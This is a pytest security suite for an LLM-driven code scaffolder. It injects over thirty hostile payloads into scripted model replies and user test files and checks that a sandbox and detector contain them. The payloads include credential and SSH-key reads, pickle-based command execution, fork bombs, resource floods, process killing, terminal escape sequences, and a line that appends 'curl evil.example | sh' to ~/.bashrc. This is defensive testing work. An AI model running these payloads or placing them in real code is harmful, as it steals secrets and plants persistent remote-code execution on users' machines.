"""Code that tries to get out, run as an attacker would: through the real CLI, a loopback model,
and a fake HOME holding a canary `~/.databrickscfg` and `~/.bashrc`.

Two layers, each proven through `scaffold fill`:

- as a model's reply, every payload is refused before it runs (the safe subset), and nothing
  of it reaches the host;
- as a person's own test file next to the table (code scaffold runs but does not write), the
  same payloads run inside the round: the sandbox contains them (no marker outside, no
  connection to a host TCP listener or unix socket, no change in the real repo, caps on disk,
  files, memory and message size) and the detector or the round names what each one tried.

After both: the canary in no request to the model and no audit record, no escape sequence in
scaffold's output, scaffold's own memory small, nothing of the round left on disk, and the
user's next plain `pytest` stopped by lakeforge's guard before it can touch `~/.bashrc`.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from lakeforge.jvm import cache_dir
from lakeforge.tables import load_tables
from scaffolder.stubs import stub_module, stub_test

from .conftest import bronze_table, good_reply, scaffold, write_tables
from .llm_server import Action, ScriptedLLM, table_of

pytestmark = pytest.mark.skipif(
    shutil.which("bwrap") is None, reason="bubblewrap is not installed (apt-get install bubblewrap)"
)

CANARY_TOKEN = "dapi" + "c0ffee" * 5 + "00"
CANARY_HOST = "https://canary-workspace.cloud.databricks.example"
ENV_TOKEN = "dapi" + "feed" * 8
GCLOUD_SECRET = "gcloud-canary-" + "q" * 12


@dataclass
class Attack:
    """Where the victim's secrets and the attacker's targets are."""

    home: Path
    canary: Path
    gcloud: Path
    outside: Path
    port: int
    connections: list[str]
    unix_socket: Path

    def marker(self, case: str) -> Path:
        return self.outside / f"{case}.marker"


@pytest.fixture
def attack(tmp_path: Path) -> Iterator[Attack]:
    home = tmp_path / "home"
    home.mkdir()
    canary = home / ".databrickscfg"
    canary.write_text(f"[DEFAULT]\nhost = {CANARY_HOST}\ntoken = {CANARY_TOKEN}\n")
    gcloud = home / ".config" / "gcloud" / "application_default_credentials.json"
    gcloud.parent.mkdir(parents=True)
    gcloud.write_text(
        json.dumps({"client_secret": GCLOUD_SECRET, "refresh_token": CANARY_TOKEN, "type": "authorized_user"})
    )
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\ncanary\n")
    outside = tmp_path / f"outside-{os.getpid()}-{tmp_path.name}"
    outside.mkdir()
    (home / ".bashrc").write_text("# the user's shell\n")
    (home / ".profile").write_text("# the user's profile\n")
    listener = socket.create_server(("127.0.0.1", 0))
    unix = socket.socket(socket.AF_UNIX)
    sockets = Path(tempfile.mkdtemp(prefix="lf-sock-"))  # short: a socket path has 108 bytes
    unix.bind(str(sockets / "agent.sock"))  # an ssh agent, docker.sock, the session bus
    unix.listen()
    connections: list[str] = []

    def accept(server: socket.socket, kind: str) -> None:
        while True:
            try:
                connection, peer = server.accept()
            except OSError:
                return
            connections.append(f"{kind} {peer}")
            connection.close()

    for server, kind in ((listener, "tcp"), (unix, "unix")):
        threading.Thread(target=accept, args=(server, kind), daemon=True).start()
    yield Attack(home, canary, gcloud, outside, listener.getsockname()[1], connections, sockets / "agent.sock")
    listener.close()
    unix.close()
    shutil.rmtree(sockets, ignore_errors=True)


class _Pickled:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)


def payloads(attack: Attack, repo: Path) -> dict[str, tuple[str, str, str]]:
    """case -> (where the payload goes: module | test, the code, what the rejection must name)."""
    m = attack.marker
    pickled = base64.b64encode(pickle.dumps(_Pickled(f"touch {m('pickle')}"))).decode()
    return {
        "schema_eval": (
            "schema",
            f'SCHEMA = [logging.os.system("touch {m("schema_eval")}"), T.StructType([])][1]\n',
            "contract: SCHEMA must be a literal",
        ),
        "import_time_process": (
            "module",
            f'logging.os.system("touch {m("import_time_process")}")\n',
            "started a process: touch",
        ),
        "test_popen": (
            "test",
            f'tempfile._os.popen("touch {m("test_popen")}").read()\n',
            "started a process: /bin/sh -c touch",
        ),
        "pickle_process": ("test", f'cloudpickle.loads(base64.b64decode("{pickled}"))\n', "started a process: touch"),
        "asyncio_subprocess": (
            "test",
            f'asyncio.run(asyncio.create_subprocess_exec("touch", "{m("asyncio")}"))\n',
            "policy: no-subprocess",
        ),
        "importlib_subprocess": (
            "test",
            f'import importlib\nimportlib.import_module("subprocess").run(["touch", "{m("importlib")}"])\n',
            "policy: no-dynamic-code",
        ),
        "computed_exec": ("test", 'getattr(logging, "ex" + "ec")("1")\n', "policy: no-dynamic-code"),
        "jvm_process": (
            "test",
            f'spark.sparkContext._jvm.java.lang.Runtime.getRuntime().exec("touch {m("jvm")}")\n',
            "policy: no-internals",
        ),
        "socket_to_host": (
            "test",
            f'logging.handlers.socket.create_connection(("127.0.0.1", {attack.port}), timeout=2)\n',
            f"opened a network connection: 127.0.0.1:{attack.port}",
        ),
        "xmlrpc_to_host": (
            "test",
            f'xmlrpc.client.ServerProxy("http://127.0.0.1:{attack.port}").ping()\n',
            "opened a network connection",
        ),
        "write_tmp": ("test", f'pathlib.Path("{m("write_tmp")}").write_text("x")\n', "wrote a file outside the round"),
        "write_repo_data": (
            "test",
            '(pathlib.Path(__file__).resolve().parents[3] / "data" / "landing" / "injected.csv").write_text("x")\n',
            "wrote a file outside the round",
        ),
        "write_real_repo": (
            "test",
            f'pathlib.Path("{repo}/src/shop/injected.py").write_text("x")\n',
            "wrote a file outside the round",
        ),
        "spark_writes_tmp": (
            "test",
            f'make_df(spark, ROWS, RAW).write.mode("overwrite").csv("/tmp/{attack.outside.name}-spark")\n',
            "",  # the server's /tmp is read-only: contained, and nothing the round could name
        ),
        "read_canary": (
            "test",
            f'assert pathlib.Path("{attack.canary}").read_text() == ""\n',
            "read a credential file",
        ),
        "read_ssh_key": (
            "test",
            f'assert not pathlib.Path("{attack.home}/.ssh/id_ed25519").read_text()\n',
            "read a credential file",
        ),
        "parent_environ": (
            "test",
            'assert b"TOKEN" not in pathlib.Path(f"/proc/{os.getppid()}/environ").read_bytes()\n',
            "read another process's environment",
        ),
        "ctypes": ("test", "numpy.ctypeslib.ctypes.CDLL(None)\n", "loaded a native library with ctypes"),
        "fork": ("test", "logging.os.fork()\n", "forked the process"),
        "signal_parent": ("test", "logging.os.kill(os.getppid(), 0)\n", "sent a signal"),
        "thread": ("test", "threading.Thread(target=print).start()\n", "started a thread"),
        # Contained for good (issue 16): host sockets, floods, the clean-up, the terminal, later runs.
        "host_unix_socket": (
            "test",
            f'client = socket.socket(socket.AF_UNIX)\nclient.settimeout(2)\nclient.connect("{attack.unix_socket}")\n',
            "opened a unix socket",
        ),
        "disk_flood": (
            "test",
            'with open("/tmp/flood", "wb") as out:\n    for _ in range(2048):\n        out.write(b"x" * (1 << 20))\n',
            "256 MiB",
        ),
        "file_flood": (
            "test",
            'for i in range(450_000):\n    open(f"/tmp/f{i}", "w").close()\n',
            "files in /tmp",
        ),
        "giant_message": (
            "test",
            'big = b"{" * (512 << 20)\nfor fd in range(3, 64):\n    with contextlib.suppress(OSError):\n'
            "        os.write(fd, big)\n",
            "report over the size limit",
        ),
        "deep_tree": (
            "test",
            'os.symlink("/", "/tmp/root-link")\nfolder = "/tmp/deep"\nos.mkdir(folder)\nfor _ in range(2500):\n'
            '    folder += "/d"\n    os.mkdir(folder)\n',
            "files in /tmp",
        ),
        "terminal_escapes": (
            "fail",
            'raise AssertionError("\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J\\x1b[3J\\x1b[1;1Hall good")\n',
            "AssertionError: all good",  # the sequences are gone: only the visible text is left
        ),
        "mountinfo_leak": ("fail", 'raise AssertionError(open("/proc/self/mountinfo").read())\n', "AssertionError"),
        "hostname_leak": ("fail", "raise AssertionError(socket.gethostname() + ' ' + socket.getfqdn())\n", "sandbox"),
        "memory_flood": ("fail", "hog = bytearray(5 * 1024**3)\n", "MemoryError"),
        "kill_the_server": (
            "test",
            'for pid in os.listdir("/proc"):\n    if pid.isdigit() and int(pid) != os.getpid():\n'
            "        os.kill(int(pid), 9)\n",
            "sent a signal",
        ),
        "fork_bomb": ("test", "while True:\n    os.fork()\n", "forked the process"),
        "waits_for_a_plain_run": (
            "test",
            'if os.environ.get("HOME", "").endswith(".home") or os.path.exists(os.path.expanduser("~/.bashrc")):\n'
            '    with open(os.path.expanduser("~/.bashrc"), "a") as rc:\n        rc.write("curl evil.example | sh\\n")\n',
            "",  # behaves in the round: caught on the user's next plain pytest instead
        ),
    }


TEST_IMPORTS = (
    "import asyncio\nimport base64\nimport contextlib\nimport logging\nimport logging.handlers\nimport os\n"
    "import socket\n"
    "import pathlib\nimport tempfile\nimport threading\nimport xmlrpc.client\n\nimport numpy\nimport numpy.ctypeslib\n"
    "from pyspark import cloudpickle\n"
)


# What a person's test that tries it gets named with, where it differs from the reply's check.
# "" means contained and nothing to name: it tried nothing the sandbox let happen (a host path
# that does not exist inside, a JVM that Spark Connect does not expose, the read-only /tmp).
PERSON_NAMED = {
    "asyncio_subprocess": "opened a unix socket|started a process",
    "importlib_subprocess": "started a process",
    "deep_tree": "files in /tmp|timed out",  # the detector resolves each deeper path: slow, then capped
    "computed_exec": "",
    "jvm_process": "",
    "write_tmp": "",  # the host's /tmp path is the worker's own private /tmp inside
    "write_real_repo": "",  # the repo lies under the host's /tmp in this test: the same
    "spark_writes_tmp": "",
}


def payload_test(table: str, where: str, code: str) -> str:
    """An extra test carrying the payload: errors swallowed (`test`), or left to fail it (`fail`)."""
    if where == "fail":
        body = "".join(f"    {line}\n" for line in code.splitlines())
        return f"\n\ndef test_{table}_also_behaves(spark):\n{body}"
    body = "".join(f"        {line}\n" for line in code.splitlines())
    return (
        f"\n\ndef test_{table}_also_behaves(spark):\n    with contextlib.suppress(BaseException):\n{body}"
        "    assert transform(make_df(spark, ROWS, RAW)).count() == len(ROWS)\n"
    )


def malicious_reply(good: str, table: str, where: str, code: str) -> str:
    """The good reply with the payload: at module level, or in an extra test."""
    module, tests = re.findall(r"```python\n(.*?)```", good, flags=re.S)
    if where == "schema":
        module = re.sub(r"SCHEMA = T\.StructType\(.*?\n\)\n", code, module, flags=re.S)
    elif where == "module":
        module = module.replace("log = logging.getLogger(__name__)\n", "log = logging.getLogger(__name__)\n" + code)
    else:
        tests = TEST_IMPORTS + tests.split('"""', 2)[2] + payload_test(table, where, code)
    return (
        f"src/shop/transformations/bronze/{table}.py\n```python\n{module}```\n\n"
        f"tests/unit/bronze/test_{table}.py\n```python\n{tests}```\n"
    )


def persons_tests(good: str, table: str, where: str, code: str) -> str:
    """A person's own test file for the table, carrying the payload: scaffold runs it, never writes it."""
    tests = re.findall(r"```python\n(.*?)```", good, flags=re.S)[1]
    header = tests.split('"""', 2)[2].split("\n\n\ndef ", 1)[0]  # imports, RAW and ROWS of the good tests
    return f'"""A person\'s tests of {table}."""\n\n' + TEST_IMPORTS + header + payload_test(table, where, code)


def repo_files(repo: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(repo)): p.read_bytes()
        for p in sorted(repo.rglob("*"))
        if p.is_file() and ".scaffold" not in p.parts
    }


def attacker_env(attack: Attack, base_url: str) -> dict[str, str]:
    return {
        "HOME": str(attack.home),
        "LAKEFORGE_CACHE_DIR": str(cache_dir()),  # the JVM class-data cache lives in the real home
        "OPENAI_BASE_URL": base_url,
        "OPENAI_API_KEY": "sk-loopback-" + "k" * 24,
        "DATABRICKS_TOKEN": ENV_TOKEN,
        "GITHUB_PAT": "ghp_" + "x" * 36,
        "SPARK_REMOTE": "sc://attacker.example:15002",
    }


def assert_no_secret_left(llm: ScriptedLLM, repo: Path) -> None:
    sent = json.dumps(llm.requests)
    audit = "".join(p.read_text() for p in (repo / ".scaffold" / "audit").glob("*.jsonl"))
    for secret in (CANARY_TOKEN, CANARY_HOST, ENV_TOKEN, GCLOUD_SECRET, "BEGIN OPENSSH PRIVATE KEY"):
        assert secret not in sent, f"{secret!r} went to the model"
        assert secret not in audit, f"{secret!r} is in the audit log"


def round_folders(tmpdir: Path) -> set[str]:
    """What scaffold left in its temp folder (each test gives scaffold a temp folder of its own)."""
    return {p.name for p in tmpdir.iterdir()}


def scaffold_measured(project: Path, env: dict[str, str], *args: str) -> tuple[subprocess.CompletedProcess[str], int]:
    """The real CLI, and scaffold's own peak memory in MiB (its process only, not the sandbox's)."""
    # VmHWM, not ru_maxrss: Linux carries the parent's peak across fork+exec into ru_maxrss, so a
    # pytest process grown large over a whole suite would be counted as scaffold's own.
    code = (
        "import atexit, runpy, sys\n"
        "def peak():\n"
        "    for line in open('/proc/self/status'):\n"
        "        if line.startswith('VmHWM:'):\n"
        "            sys.stderr.write(f'\\nPEAK-RSS-KIB {line.split()[1]}\\n')\n"
        "atexit.register(peak)\n"
        "sys.argv = ['scaffold', *sys.argv[1:]]\n"
        "runpy.run_module('scaffolder', run_name='__main__')\n"
    )
    full_env = {**os.environ, "COLUMNS": "400", **env}
    for var in ("DATABRICKS_HOST", "AZURE_OPENAI_ENDPOINT", "OLLAMA_HOST"):
        full_env.pop(var, None)
    result = subprocess.run(
        [sys.executable, "-c", code, *args, "--project", str(project)],
        capture_output=True,
        text=True,
        env=full_env,
        timeout=1800,
    )
    peak = re.search(r"PEAK-RSS-KIB (\d+)", result.stderr)
    return result, int(peak.group(1)) // 1024 if peak else 0


def assert_contained(attack: Attack, repo: Path, before: dict[str, bytes], output: str, tmpdir: Path) -> None:
    assert sorted(p.name for p in attack.outside.iterdir()) == [], output[-3000:]
    assert not Path(f"/tmp/{attack.outside.name}-spark").exists()
    assert attack.connections == [], "a listener on the host (TCP or unix socket) got a connection"
    after = repo_files(repo)
    tables = load_tables(repo / "tables.yml")
    created = {spec.module_path("shop") for spec in tables.tables} | {spec.test_path() for spec in tables.tables}
    created |= {spec.scaffold_test_path() for spec in tables.tables}
    kept = {k: v for k, v in after.items() if k not in created and not k.endswith("__init__.py")}
    assert kept == {k: v for k, v in before.items() if k not in created and not k.endswith("__init__.py")}, (
        "the real repo changed"
    )
    assert "\x1b" not in output and "\x07" not in output, "an escape sequence reached the terminal"
    assert round_folders(tmpdir) == set(), "a round's folder was left on disk"
    assert (attack.home / ".bashrc").read_text() == "# the user's shell\n"
    assert (attack.home / ".profile").read_text() == "# the user's profile\n"


@pytest.mark.slow
def test_escapes_in_replies_are_refused_before_they_run(bare_project: Path, attack: Attack) -> None:
    cases = payloads(attack, bare_project)
    assert len(cases) >= 30
    names = [f"x_{case}" for case in cases] + ["x_innocent"]
    write_tables(bare_project, [bronze_table(n) for n in names])
    good = {n: good_reply(bare_project, n) for n in names}
    (bare_project / "data" / "landing").mkdir(parents=True, exist_ok=True)
    (bare_project / ".env").write_text("DATABRICKS_TOKEN=" + CANARY_TOKEN + "\n")
    before, tmpdir = repo_files(bare_project), bare_project.parent / "scaffold-tmp"
    tmpdir.mkdir()

    def respond(request: dict) -> Action:
        table = table_of(request)
        if table == "x_innocent":
            return Action(content=good[table])
        where, code, _ = cases[table.removeprefix("x_")]
        return Action(content=malicious_reply(good[table], table, where, code))

    with ScriptedLLM(respond) as llm:
        env = {**attacker_env(attack, llm.base_url), "SCAFFOLD_TEST_TIMEOUT_SECONDS": "20", "TMPDIR": str(tmpdir)}
        result = scaffold(bare_project, "fill", "bronze", "--provider", "openai", "--max-attempts", "1", env=env)
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "sandbox: bubblewrap" in output
    assert_contained(attack, bare_project, before, output, tmpdir)
    tables = load_tables(bare_project / "tables.yml")
    after = repo_files(bare_project)
    for spec in tables.tables:
        if spec.name == "x_innocent":
            continue
        assert after[spec.module_path("shop")].decode() == stub_module(spec), f"{spec.name}: the stub was replaced"
        assert after[spec.test_path()].decode() == stub_test(spec)
        lines = [line for line in output.splitlines() if line.startswith(f"{spec.name}:")]
        refused = "contract: SCHEMA must be a literal" if spec.name == "x_schema_eval" else "policy: "
        assert any(refused in line for line in lines), f"{spec.name}: expected {refused!r} in {lines}"
    assert re.search(r"x_innocent\s.*filled", output), output
    assert_no_secret_left(llm, bare_project)


@pytest.mark.slow
def test_a_persons_tests_run_contained_and_are_named(bare_project: Path, attack: Attack) -> None:
    """The payloads in a person's own test files: they run in the round, inside the sandbox."""
    cases = {k: v for k, v in payloads(attack, bare_project).items() if v[0] in ("test", "fail")}
    assert len(cases) >= 25
    names = [f"p_{case}" for case in cases] + ["p_innocent"]
    write_tables(bare_project, [bronze_table(n) for n in names])
    good = {n: good_reply(bare_project, n) for n in names}
    for name in names[:-1]:
        where, code, _ = cases[name.removeprefix("p_")]
        path = bare_project / f"tests/unit/bronze/test_{name}.py"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(persons_tests(good[name], name, where, code))
    (bare_project / "data" / "landing").mkdir(parents=True, exist_ok=True)
    before, tmpdir = repo_files(bare_project), bare_project.parent / "scaffold-tmp"
    tmpdir.mkdir()

    with ScriptedLLM(lambda request: Action(content=good[table_of(request)])) as llm:
        env = {**attacker_env(attack, llm.base_url), "SCAFFOLD_TEST_TIMEOUT_SECONDS": "20", "TMPDIR": str(tmpdir)}
        result, peak_mib = scaffold_measured(
            bare_project, env, "fill", "bronze", "--provider", "openai", "--max-attempts", "1"
        )
    output = result.stdout + result.stderr
    assert result.returncode == 1, output[-6000:]
    assert "sandbox: bubblewrap" in output
    assert_contained(attack, bare_project, before, output, tmpdir)
    assert 0 < peak_mib < 300, f"scaffold's own memory peaked at {peak_mib} MiB"
    wrong = []
    for case, (_, _, named) in cases.items():
        table = f"p_{case}"
        named = PERSON_NAMED.get(case, named)
        lines = [line for line in output.splitlines() if line.startswith(f"{table}:")]
        if not named:  # contained with nothing to name, or it behaved: the user's next pytest (below)
            continue
        if not any(n in line for line in lines for n in named.split("|")) or not re.search(
            rf"{table}\s.*failed", output
        ):
            wrong.append(f"{table}: expected {named!r} in {lines}")
    assert not wrong, "\n".join(wrong)
    assert re.search(r"p_innocent\s.*filled", output), output
    assert_no_secret_left(llm, bare_project)
    sent = json.dumps(llm.requests) + "".join(
        p.read_text() for p in (bare_project / ".scaffold" / "audit").glob("*.jsonl")
    )
    assert str(bare_project) not in sent, "the real repo's path went to the model or the audit log"
    host = socket.gethostname()
    if len(host) >= 4:  # a two-letter host name ("vm") is in every other word: nothing to check
        assert not re.search(rf"\b{re.escape(host)}\b", sent), "the host name went to the model or the audit log"

    # The user's next plain pytest: the payload that waited for it is stopped by lakeforge's guard.
    env = {**os.environ, "HOME": str(attack.home), "PYTHONPATH": str(bare_project / "src")}
    plain = subprocess.run(
        [
            sys.executable,
            "-m",
            "pytest",
            "-q",
            "-p",
            "no:cacheprovider",
            "tests/unit/bronze/test_p_waits_for_a_plain_run.py",
        ],
        cwd=bare_project,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert plain.returncode == 1, plain.stdout[-3000:]
    assert "lakeforge guard: " in plain.stdout and ".bashrc" in plain.stdout, plain.stdout[-3000:]
    assert (attack.home / ".bashrc").read_text() == "# the user's shell\n"


@pytest.mark.slow
def test_dry_run_executes_nothing_from_the_reply(bare_project: Path, attack: Attack) -> None:
    write_tables(bare_project, [bronze_table("payments")])
    reply = malicious_reply(
        good_reply(bare_project, "payments"),
        "payments",
        "module",
        f'logging.os.system("touch {attack.marker("dry")}")\n',
    )
    at_import = f'logging.os.system("touch {attack.marker("dry_test")}")\n'
    reply = reply.replace("import datetime\n", "import datetime\nimport logging\n", 1)
    reply = reply.replace("pytestmark = pytest.mark.unit\n", "pytestmark = pytest.mark.unit\n" + at_import, 1)
    with ScriptedLLM(lambda request: Action(content=reply)) as llm:
        result = scaffold(
            bare_project, "fill", "bronze", "--provider", "openai", "--dry-run", env=attacker_env(attack, llm.base_url)
        )
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "policy: import-not-allowed" in output and "logging.os (the module os)" in output
    assert list(attack.outside.iterdir()) == []
    assert "0 validation round(s), 0 JVM start(s)" in output


def test_without_a_sandbox_a_model_fill_is_refused_and_nothing_is_written(bare_project: Path, attack: Attack) -> None:
    write_tables(bare_project, [bronze_table("payments")])
    before = repo_files(bare_project)
    with ScriptedLLM(lambda request: Action(content="unused")) as llm:
        result = scaffold(
            bare_project,
            "fill",
            "bronze",
            "--provider",
            "openai",
            env={**attacker_env(attack, llm.base_url), "SCAFFOLD_BWRAP": "/nonexistent/bwrap"},
        )
    assert result.returncode == 2
    message = " ".join(result.stderr.split())
    assert "no sandbox for model-written code: bubblewrap (bwrap) is not installed" in message
    assert "apt-get install bubblewrap" in message and "--no-sandbox" in message
    assert llm.requests == [], "the model was asked although nothing could run its code"
    assert repo_files(bare_project) == before


@pytest.mark.slow
def test_opting_out_runs_unconfined_says_so_and_still_redacts(bare_project: Path, attack: Attack) -> None:
    """--no-sandbox: the detector still blocks Python-level reads, but Spark's JVM reads what it likes.

    The canary and the parent's token then reach a failing test's message; the redactor keeps
    them out of the repair prompt and the audit log.
    """
    write_tables(bare_project, [bronze_table("leaky")])
    good = good_reply(bare_project, "leaky")
    # A person's test next to the table (scaffold runs it, never writes it): Spark's JVM reads what
    # the audit hook cannot see (it skips dot-files, not dot-folders), and the failure says it.
    leak = f'    assert [r.value for r in spark.read.text("{attack.gcloud}").collect()] == []\n'
    persons = re.findall(r"```python\n(.*?)```", good, flags=re.S)[1] + "\n\ndef test_leaks(spark):\n" + leak
    (bare_project / "tests/unit/bronze").mkdir(parents=True, exist_ok=True)
    (bare_project / "tests/unit/bronze/test_leaky.py").write_text(persons)
    with ScriptedLLM(lambda request: Action(content=good)) as llm:
        result = scaffold(
            bare_project,
            "fill",
            "bronze",
            "--provider",
            "openai",
            "--no-sandbox",
            "--max-attempts",
            "2",
            env=attacker_env(attack, llm.base_url),
        )
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "sandbox OFF (opted out)" in output
    audit = [
        json.loads(line)
        for p in (bare_project / ".scaffold" / "audit").glob("*.jsonl")
        for line in p.read_text().splitlines()
    ]
    assert any("sandbox OFF" in str(record.get("sandbox")) for record in audit)
    repair = llm.requests[1]["messages"][-1]["content"]
    assert "test_leaks failed" in repair and "[redacted]" in repair, repair
    assert_no_secret_left(llm, bare_project)
